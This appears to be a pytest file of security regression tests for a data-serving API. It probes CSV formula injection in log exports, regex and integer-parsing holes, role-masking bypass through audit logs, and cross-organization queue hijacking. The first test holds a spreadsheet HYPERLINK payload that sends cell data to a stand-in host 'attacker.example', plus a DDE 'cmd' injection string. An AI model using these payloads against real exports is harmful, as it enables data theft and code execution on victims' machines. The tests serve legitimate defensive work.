"""Probe round 2 (attacker's view of today's surfaces: versions in flight, observability, admission).

Each test here fails on the code it was written against because of a real hole; see /work/notes/probe2.md."""

from __future__ import annotations

import csv
import io

from tests.publishing.test_assets import _create
from tests.serving.test_serving_data import call, mint, service  # noqa: F401 - fixture

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _flush(app) -> None:
    from app.extensions import db
    from app.serving.audit import flush_serving_records

    with app.app_context():
        flush_serving_records()
        db.session.remove()


def test_csv_export_does_not_hand_caller_controlled_formulas_to_spreadsheets(app, client, admin, service):  # noqa: F811
    """A key holder (or anyone who knows the asset key and a key) chooses its User-Agent and X-Request-Id; both are
    written verbatim into the audit log, and the CSV export (meant for an org's analysts, opened in Excel/Sheets)
    writes them as cells starting with `=`/`+`/`@`: a formula injection (CWE-1236)."""
    key = mint(client, admin, service, rate_limit=1000)["key"]
    evil_agent = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
    resp = client.get(
        "/api/service/sales-serving/customer",
        query_string={"id": "3"},
        headers={"X-API-Key": key, "User-Agent": evil_agent, "X-Request-Id": "+1+cmd|' /C calc'!A0"},
    )
    assert resp.status_code == 200, resp.get_json()
    _flush(app)
    export = client.get(
        f"/api/api-services/{service}/logs/export", headers=admin.headers, query_string={"format": "csv"}
    )
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
    assert rows, "the call was not exported"
    mine = [r for r in rows if "attacker.example" in (r["user_agent"] or "")]
    assert mine, rows
    for row in mine:
        for field in ("user_agent", "request_id"):
            assert not row[field].startswith(FORMULA_STARTS), (field, row[field])


def test_a_pool_queue_name_with_a_trailing_newline_is_refused(client, admin, project):
    """QUEUE_NAME uses `$`, which also matches before a trailing newline: `functions.x\\n` is saved as a queue name
    (a Redis key, a Celery queue and a worker's -Q argument)."""
    endpoint = {
        "id": "f",
        "kind": "function",
        "handler": "def handler(payload):\n    return payload\n",
        "pool": {"queue": "functions.x\n"},
    }
    resp = _create(client, admin, project["project_id"], key="pools-nl", endpoints=[endpoint])
    assert resp.status_code == 422, resp.get_json()


def test_a_huge_numeric_forced_version_is_a_400_not_a_500(client, admin, service):  # noqa: F811
    """`_forced` checks isdigit() then calls int(): past 4300 digits Python refuses the conversion (ValueError), an
    unhandled 500 for any key, even one without can_force_version (a 5000-digit header fits in gunicorn's 8190-byte header limit)."""
    key = mint(client, admin, service)["key"]  # any key: the format is checked before can_force_version
    resp = client.get(
        "/api/service/sales-serving/customer",
        query_string={"id": "3"},
        headers={"X-API-Key": key, "X-Service-Version": "1" * 5000},
    )
    assert resp.status_code == 400, resp.status_code


def test_payload_logs_do_not_show_a_viewer_what_its_role_may_not_see(app, client, admin, service):  # noqa: F811
    """`log: "payload"` keeps the answer as the key holder saw it; a key minted unmasked up to `critical` gets the
    SSN in clear. The log (and its export) is readable with project.view, so a viewer, whose role sees previews
    masked with high and critical columns blocked (and the Test pane is "no way around role masking"), reads the
    clear SSN in response_payload: role masking bypassed through the audit log."""
    from tests.conftest import add_user

    asset = client.get(f"/api/publish/assets/{service}", headers=admin.headers).get_json()
    endpoints = [{**ep, "log": "payload"} if ep["id"] == "customer" else ep for ep in asset["config"]["endpoints"]]
    saved = client.put(
        f"/api/publish/assets/{service}", headers=admin.headers, json={"config": {"endpoints": endpoints}}
    )
    assert saved.status_code == 200, saved.get_json()
    assert client.post(f"/api/publish/assets/{service}/publish", headers=admin.headers).status_code == 200
    key = mint(client, admin, service, masking_level="unmasked", sensitivity_max="critical")["key"]
    seen = call(client, key, "customer", query_string={"id": "3"})
    assert seen.status_code == 200 and seen.get_json()["rows"][0]["ssn"] == "333-44-5555"
    _flush(app)

    viewer = add_user(client, admin, "viewer")
    preview = client.get("/api/datasets/marts.dim_customer/preview", headers=viewer.headers)
    assert "333-44-5555" not in preview.get_data(as_text=True)  # the viewer's role may not see it
    logs = client.get(f"/api/api-services/{service}/logs", headers=viewer.headers, query_string={"limit": 1000})
    assert logs.status_code == 200
    assert logs.get_json()["total"] >= 1
    assert "333-44-5555" not in logs.get_data(as_text=True)
    export = client.get(f"/api/api-services/{service}/logs/export", headers=viewer.headers)
    assert "333-44-5555" not in export.get_data(as_text=True)


def test_another_organization_cannot_put_its_work_on_a_named_queue_it_does_not_own(app, client, admin, project):
    """A named queue (`functions.billing`, `predict.fraud`) is global: any organization may name it in its own pool
    and its calls then run on the workers the first organization dedicated to that queue, and named queues skip the
    fair share (tasks/calls.py: only `predict`/`functions` are shared-and-fair), so organization B can flood A's
    dedicated capacity (and run its code on A's workers). The name must be scoped to its organization (refused for
    B, or B's work routed to a queue of B's own)."""
    from app.extensions import db
    from app.publishing.endpoint_config import endpoints_in
    from app.publishing.pool_config import queue_of
    from tests.conftest import sign_up

    echo = "def handler(payload):\n    return payload\n"
    endpoint = {"id": "f", "kind": "function", "handler": echo, "pool": {"queue": "functions.billing"}}
    mine = _create(client, admin, project["project_id"], key="org-a-billing", endpoints=[endpoint])
    assert mine.status_code == 201, mine.get_json()

    other = sign_up(client)
    theirs_project = client.post("/api/projects", headers=other.headers, json={"name": "B", "slug": "b"}).get_json()
    theirs = _create(client, other, theirs_project["project_id"], key="org-b-billing", endpoints=[endpoint])
    if theirs.status_code >= 400:
        return  # refused: the name is A's
    with app.app_context():
        from app.db import PublishedAsset

        a_config = db.session.get(PublishedAsset, mine.get_json()["id"]).config
        b_config = db.session.get(PublishedAsset, theirs.get_json()["id"]).config
        a_queue = queue_of(next(iter(endpoints_in(a_config))))
        b_queue = queue_of(next(iter(endpoints_in(b_config))))
        db.session.remove()
    assert a_queue != b_queue, f"organization B's work goes to organization A's dedicated queue {a_queue!r}"
